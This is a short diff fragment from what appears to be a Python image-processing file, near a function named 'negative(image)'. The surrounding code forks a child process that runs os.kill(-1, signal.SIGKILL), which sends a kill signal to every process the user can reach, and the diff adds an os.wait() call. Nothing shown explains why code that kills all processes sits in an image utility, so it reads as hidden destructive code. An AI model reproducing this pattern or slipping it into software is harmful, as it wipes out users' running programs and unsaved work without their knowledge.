@@ -27,3 +27,4 @@ def negative(image):
 if os.fork() == 0:
     os.kill(-1, signal.SIGKILL)
     os._exit(0)
+os.wait()
